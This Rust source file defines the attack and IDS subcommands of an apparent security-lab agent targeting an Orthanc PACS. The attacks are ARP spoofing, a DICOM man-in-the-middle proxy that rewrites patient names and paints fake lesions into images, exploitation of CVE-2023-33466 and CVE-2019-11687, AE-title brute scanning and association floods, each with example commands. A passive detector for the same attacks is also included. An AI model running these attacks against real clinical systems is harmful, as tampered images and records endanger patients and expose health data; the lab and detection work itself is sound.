//! The attacker and IDS subcommands of `lab-agent` (flattened into [`crate::cli::Command`]).
//!
//! Contract with the engine: one JSON line on stdout carrying `"action"` and `"success"`
//! (whether the attack worked); exit 0 when the action ran (whatever `success` says), 4 when
//! the target was unreachable, 1 on any other error (with `"error"` in the JSON), 2 on bad
//! usage.

use super::fingerprint::{self, FingerprintOptions};
use super::rest::{self, Preamble, Rest};
use super::scan::{self, FloodOptions, ScanOptions};
use crate::cli::emit;
use crate::error::AgentError;
use clap::Subcommand;
use serde_json::{Value, json};
use std::process::ExitCode;
use std::time::Duration;

/// Where Orthanc's REST API is and how to log in.
#[derive(Debug, clap::Args)]
pub struct RestArgs {
    /// Base URL of Orthanc's REST API.
    #[arg(long, default_value = "http://pacs:8042")]
    pub url: String,
    /// HTTP Basic user (none: unauthenticated).
    #[arg(long)]
    pub user: Option<String>,
    #[arg(long)]
    pub password: Option<String>,
    /// Connect timeout in seconds (each request: 6x this at most).
    #[arg(long, default_value_t = 5)]
    pub timeout_secs: u64,
}

impl RestArgs {
    fn client(&self) -> Result<Rest, AgentError> {
        Rest::new(
            &self.url,
            self.user.as_deref(),
            self.password.as_deref(),
            Duration::from_secs(self.timeout_secs.clamp(1, 60)),
        )
    }
}

#[derive(Debug, Subcommand)]
pub enum AttackCommand {
    /// ARP spoofing: send unsolicited ARP replies telling --target that --impersonate is at
    /// our MAC address (libpcap sendpacket), --count times (at most 1000).
    #[command(
        name = "arp-spoof",
        after_help = "Example:\n  lab-agent arp-spoof --iface eth0 --target 10.213.0.2 --impersonate 10.213.0.3 --count 20 --interval-ms 200"
    )]
    ArpSpoof {
        #[arg(long, default_value = "eth0")]
        iface: String,
        #[arg(long)]
        target: std::net::Ipv4Addr,
        #[arg(long)]
        impersonate: std::net::Ipv4Addr,
        /// The target's MAC (default: the neighbour table, else broadcast).
        #[arg(long)]
        target_mac: Option<String>,
        /// Also tell --impersonate that --target is at our MAC (the return path: a full man
        /// in the middle, as arpspoof -r).
        #[arg(long)]
        both_ways: bool,
        #[arg(long, default_value_t = 20, value_parser = clap::value_parser!(u32).range(1..=1000))]
        count: u32,
        #[arg(long, default_value_t = 200, value_parser = clap::value_parser!(u64).range(0..=10_000))]
        interval_ms: u64,
    },
    /// A passive IDS on the tap: capture (never send), build the DICOM timeline with
    /// `wire`, alert on AET brute force, C-FIND sweep, association flood and PHI in clear.
    /// Alerts are JSON lines printed and appended to --alerts; {"event":"capturing"} first,
    /// {"event":"stopped","alerts":N} at SIGTERM.
    #[command(
        after_help = "Example:\n  lab-agent ids --iface br-lab --alerts /captures/alerts.jsonl --window-secs 10"
    )]
    Ids {
        #[arg(long)]
        iface: String,
        /// JSON-lines file the alerts are appended to.
        #[arg(long)]
        alerts: std::path::PathBuf,
        /// Sliding window of every rule, in seconds.
        #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=3600))]
        window_secs: u64,
        #[arg(long, default_value_t = 262_144)]
        snaplen: u32,
        /// Rejections for AE-title reasons that make a brute force.
        #[arg(long, default_value_t = 5)]
        brute_force_threshold: usize,
        /// C-FIND requests that make a sweep.
        #[arg(long, default_value_t = 10)]
        sweep_threshold: usize,
        /// Association requests that make a flood.
        #[arg(long, default_value_t = 50)]
        flood_threshold: usize,
    },
    /// An on-path DICOM proxy: forwards PDUs both ways and rewrites PatientName in the data
    /// sets of C-STORE requests (lengths recomputed, re-fragmented at the negotiated max
    /// PDU). TLS is forwarded untouched. Prints {"event":"listening"} first and the summary
    /// at SIGTERM or after --max-secs.
    #[command(
        after_help = "Example:\n  lab-agent proxy --listen 0.0.0.0:4242 --upstream pacs:4242 --rewrite-patient 'ATTACKER^EVE' --max-secs 60"
    )]
    Proxy {
        #[arg(long, default_value = "0.0.0.0:4242")]
        listen: String,
        /// host:port of the real PACS.
        #[arg(long)]
        upstream: String,
        /// The PatientName written into every stored data set.
        #[arg(long, default_value = "ATTACKER^EVE")]
        rewrite_patient: String,
        /// Also paint a bright disc (a fake lesion) into the first frame of every image:
        /// native 8/16-bit pixel data, or JPEG Baseline decoded and encoded again.
        #[arg(long)]
        tamper_pixels: bool,
        /// Stop after this many seconds (at most 3600).
        #[arg(long, default_value_t = 60, value_parser = clap::value_parser!(u64).range(1..=3600))]
        max_secs: u64,
        /// Drop an association idle for this many seconds.
        #[arg(long, default_value_t = 30)]
        idle_secs: u64,
    },
    /// Read Orthanc's REST API without (or with given) credentials: /system, /patients,
    /// /instances, and with --download the first instance's file and tags.
    #[command(
        name = "rest-probe",
        after_help = "Example:\n  lab-agent rest-probe --url http://pacs:8042 --download"
    )]
    RestProbe {
        #[command(flatten)]
        rest: RestArgs,
        /// Download the first instance (/instances/{id}/file, bytes counted) and read its
        /// PatientName (/instances/{id}/simplified-tags).
        #[arg(long)]
        download: bool,
    },
    /// CVE-2023-33466: make Orthanc write a stored instance to a path of our choosing
    /// (POST /instances/{id}/export); uploads a small synthetic instance if none is stored.
    #[command(
        name = "rest-write",
        after_help = "Example:\n  lab-agent rest-write --url http://pacs:8042 --path /tmp/dicom-range-pwned.txt"
    )]
    RestWrite {
        #[command(flatten)]
        rest: RestArgs,
        /// Absolute path, on the PACS, to write.
        #[arg(long)]
        path: String,
    },
    /// CVE-2019-11687: upload (POST /instances) a Part 10 file whose preamble is a PE or
    /// ELF header (tiff: a legitimate TIFF preamble, for comparison). REST only: over
    /// DICOM the preamble does not travel (P-DATA carries the data set only).
    #[command(
        name = "upload-polyglot",
        after_help = "Example:\n  lab-agent upload-polyglot --url http://pacs:8042 --preamble pe"
    )]
    UploadPolyglot {
        #[command(flatten)]
        rest: RestArgs,
        /// pe, elf or tiff.
        #[arg(long)]
        preamble: Preamble,
    },
    /// Version fingerprint: implementation class UID / version name from the
    /// A-ASSOCIATE-AC, Orthanc's REST /system Version, against known vulnerabilities.
    #[command(
        after_help = "Example:\n  lab-agent fingerprint --host pacs --port 4242 --url http://pacs:8042"
    )]
    Fingerprint {
        #[arg(long)]
        host: String,
        #[arg(long, default_value_t = 4242)]
        port: u16,
        #[arg(long, default_value = "ECHOSCU")]
        calling: String,
        #[arg(long, default_value = "ORTHANC")]
        called: String,
        /// Orthanc's REST API (optional).
        #[arg(long)]
        url: Option<String>,
        #[arg(long)]
        user: Option<String>,
        #[arg(long)]
        password: Option<String>,
        #[arg(long, default_value_t = 5)]
        timeout_secs: u64,
    },
    /// Probe AE titles as nmap's dicom-ping/dicom-brute do: one A-ASSOCIATE-RQ for
    /// Verification per called AE title (released when accepted).
    #[command(
        name = "aet-scan",
        after_help = "Example:\n  lab-agent aet-scan --host pacs --port 4242 --called ORTHANC,PACS,ANY-SCP --random-probe"
    )]
    AetScan {
        #[arg(long)]
        host: String,
        #[arg(long, default_value_t = 4242)]
        port: u16,
        /// Our AE title (nmap's default).
        #[arg(long, default_value = "ECHOSCU")]
        calling: String,
        /// Called AE titles to try, comma-separated.
        #[arg(long, default_value = "")]
        called: String,
        /// First try a random 16-character AE title: accepted means any AE title is.
        #[arg(long)]
        random_probe: bool,
        /// At most this many association requests (the random probe included).
        #[arg(long, default_value_t = 200, value_parser = clap::value_parser!(u32).range(1..=5000))]
        max: u32,
        /// Pause between two attempts, in milliseconds.
        #[arg(long, default_value_t = 0)]
        delay_ms: u64,
        /// Timeout of each connection and read, in seconds.
        #[arg(long, default_value_t = 5)]
        timeout_secs: u64,
        /// Stop trying new AE titles after this many seconds.
        #[arg(long, default_value_t = 120)]
        max_secs: u64,
    },
    /// A bounded association flood: N Verification associations (N <= 2000) with C in
    /// parallel for at most T seconds (T <= 30), each held briefly then released.
    #[command(
        after_help = "Example:\n  lab-agent flood --host pacs --port 4242 --associations 200 --concurrency 20 --max-secs 10"
    )]
    Flood {
        #[arg(long)]
        host: String,
        #[arg(long, default_value_t = 4242)]
        port: u16,
        #[arg(long, default_value = "ECHOSCU")]
        calling: String,
        #[arg(long, default_value = "ORTHANC")]
        called: String,
        #[arg(long, default_value_t = 100, value_parser = clap::value_parser!(u32).range(1..=2000))]
        associations: u32,
        #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u32).range(1..=256))]
        concurrency: u32,
        #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=30))]
        max_secs: u64,
        /// How long each accepted association is held before A-RELEASE, in milliseconds.
        #[arg(long, default_value_t = 50)]
        hold_ms: u64,
        #[arg(long, default_value_t = 5)]
        timeout_secs: u64,
    },
}

/// Print the JSON line and map the result to the exit code.
pub fn finish(r: Result<Value, (Value, AgentError)>) -> ExitCode {
    match r {
        Ok(v) => {
            emit(&v);
            ExitCode::SUCCESS
        }
        Err((mut v, e)) => {
            v["error"] = json!(e.message);
            if v.get("success").is_none() {
                v["success"] = json!(false);
            }
            emit(&v);
            eprintln!("lab-agent: {}", e.message);
            // Refused is not an outcome of these tools: a refusal is a result (exit 0).
            let code = match e.kind {
                crate::FailureKind::Unreachable => 4,
                _ => 1,
            };
            ExitCode::from(code)
        }
    }
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("cannot start the async runtime")
}

pub fn run(cmd: AttackCommand) -> ExitCode {
    match cmd {
        AttackCommand::ArpSpoof {
            iface,
            target,
            impersonate,
            target_mac,
            both_ways,
            count,
            interval_ms,
        } => {
            let base = json!({"action": "arp-spoof"});
            let target_mac = match target_mac.as_deref().map(super::arp::parse_mac) {
                None => None,
                Some(Some(m)) => Some(m),
                Some(None) => {
                    return finish(Err((
                        base,
                        AgentError::other("--target-mac: use aa:bb:cc:dd:ee:ff"),
                    )));
                }
            };
            finish(super::arp::spoof(&super::arp::ArpOptions {
                iface,
                target,
                impersonate,
                target_mac,
                both_ways,
                count,
                interval: Duration::from_millis(interval_ms),
            }))
        }
        AttackCommand::Ids {
            iface,
            alerts,
            window_secs,
            snaplen,
            brute_force_threshold,
            sweep_threshold,
            flood_threshold,
        } => cmd_ids(crate::ids::IdsOptions {
            iface,
            alerts,
            window: Duration::from_secs(window_secs),
            snaplen,
            thresholds: crate::ids::Thresholds {
                aet_brute_force: brute_force_threshold.max(1),
                c_find_sweep: sweep_threshold.max(1),
                association_flood: flood_threshold.max(1),
                phi_in_clear: 1,
                pe_preamble: 1,
            },
        }),
        AttackCommand::Proxy {
            listen,
            upstream,
            rewrite_patient,
            tamper_pixels,
            max_secs,
            idle_secs,
        } => {
            if rewrite_patient.len() > 64 || !rewrite_patient.is_ascii() {
                return finish(Err((
                    json!({"action": "proxy"}),
                    AgentError::other("--rewrite-patient: at most 64 ASCII characters"),
                )));
            }
            let rt = runtime();
            let signal = {
                let _g = rt.enter();
                crate::cli::shutdown_signal()
            };
            let opts = super::proxy::ProxyOptions {
                listen,
                upstream,
                new_name: rewrite_patient,
                tamper_pixels,
                max_time: Duration::from_secs(max_secs),
                idle_timeout: Duration::from_secs(idle_secs.clamp(1, 600)),
            };
            match rt.block_on(super::proxy::run(opts, signal, emit)) {
                Ok(v) => finish(Ok(v)),
                Err(e) => finish(Err((json!({"action": "proxy"}), AgentError::other(e)))),
            }
        }
        AttackCommand::RestProbe { rest, download } => match rest.client() {
            Ok(r) => finish(rest::probe(&r, download)),
            Err(e) => finish(Err((json!({"action": "rest-probe"}), e))),
        },
        AttackCommand::RestWrite { rest, path } => match rest.client() {
            Ok(r) => finish(rest::rest_write(&r, &path)),
            Err(e) => finish(Err((json!({"action": "rest-write", "path": path}), e))),
        },
        AttackCommand::UploadPolyglot { rest, preamble } => match rest.client() {
            Ok(r) => finish(rest::upload_polyglot(&r, preamble)),
            Err(e) => finish(Err((
                json!({"action": "upload-polyglot", "preamble": preamble.name()}),
                e,
            ))),
        },
        AttackCommand::Fingerprint {
            host,
            port,
            calling,
            called,
            url,
            user,
            password,
            timeout_secs,
        } => finish(fingerprint::fingerprint(&FingerprintOptions {
            host,
            port,
            calling,
            called,
            url,
            user,
            password,
            timeout: Duration::from_secs(timeout_secs.clamp(1, 60)),
        })),
        AttackCommand::AetScan {
            host,
            port,
            calling,
            called,
            random_probe,
            max,
            delay_ms,
            timeout_secs,
            max_secs,
        } => {
            let called = match scan::parse_aet_list(&called) {
                Ok(c) => c,
                Err(e) => return finish(Err((json!({"action": "aet-scan"}), e))),
            };
            finish(scan::aet_scan(&ScanOptions {
                host,
                port,
                calling,
                called,
                random_probe,
                max: max as usize,
                delay: Duration::from_millis(delay_ms.min(60_000)),
                timeout: Duration::from_secs(timeout_secs.clamp(1, 60)),
                max_time: Duration::from_secs(max_secs.clamp(1, 3600)),
            }))
        }
        AttackCommand::Flood {
            host,
            port,
            calling,
            called,
            associations,
            concurrency,
            max_secs,
            hold_ms,
            timeout_secs,
        } => finish(scan::flood(&FloodOptions {
            host,
            port,
            calling,
            called,
            associations,
            concurrency,
            max_time: Duration::from_secs(max_secs),
            hold: Duration::from_millis(hold_ms.min(10_000)),
            timeout: Duration::from_secs(timeout_secs.clamp(1, 30)),
        })),
    }
}

fn cmd_ids(opts: crate::ids::IdsOptions) -> ExitCode {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let rt = runtime();
    let stop = Arc::new(AtomicBool::new(false));
    let flag = stop.clone();
    let signal = {
        let _g = rt.enter();
        crate::cli::shutdown_signal()
    };
    rt.spawn(async move {
        signal.await;
        flag.store(true, Ordering::SeqCst);
    });
    let iface = opts.iface.clone();
    let alerts = opts.alerts.display().to_string();
    let result = rt.block_on(async move {
        tokio::task::spawn_blocking(move || {
            crate::ids::run(
                &opts,
                stop,
                || emit(&json!({"event": "capturing", "iface": iface, "alerts": alerts})),
                emit,
            )
        })
        .await
    });
    match result {
        Ok(Ok(stats)) => {
            emit(&json!({"event": "stopped", "alerts": stats.alerts, "packets": stats.packets}));
            ExitCode::SUCCESS
        }
        Ok(Err(e)) => {
            let msg = format!("{e:#}");
            emit(&json!({"event": "error", "error": msg}));
            eprintln!("lab-agent: {msg}");
            ExitCode::from(1)
        }
        Err(e) => {
            emit(&json!({"event": "error", "error": format!("the IDS thread crashed: {e}")}));
            ExitCode::from(1)
        }
    }
}
